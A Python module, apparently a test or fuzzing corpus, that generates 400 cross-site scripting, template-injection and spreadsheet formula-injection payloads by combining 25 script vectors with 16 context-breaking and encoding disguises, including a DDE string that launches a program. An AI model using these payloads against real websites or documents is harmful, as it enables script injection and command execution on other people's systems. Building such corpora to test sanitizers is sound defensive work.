"""400 texts that try to run where they are shown: 25 ways to write a script, 16 ways to hide it."""

from urllib.parse import quote

CALL = "alert(1)"
WAYS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/src=data:,{CALL}>",
    f"<img src=x onerror={CALL}>",
    f"<img/src='x'/onerror='{CALL}'>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<link rel=stylesheet href=javascript:{CALL}>",
    f"<style>@import 'javascript:{CALL}'</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<template><script>{CALL}</script></template>",
    f"javascript:{CALL}//<a>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% print(7*7) %}{x.__class__.__mro__}",
)


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


DISGUISES = (
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"</textarea>{text}",
    lambda text: f"</title>{text}",
    lambda text: f"</script>{text}",
    lambda text: f"--><!-- {text}",
    lambda text: f"]]>{text}",
    lambda text: f"`;{text}//",
    lambda text: f"\\u003c{text}",
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    quote,
    _full_width,
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"=cmd|'/c calc'!A1 {text}",
)
SCRIPTS = [disguise(way) for way in WAYS for disguise in DISGUISES]
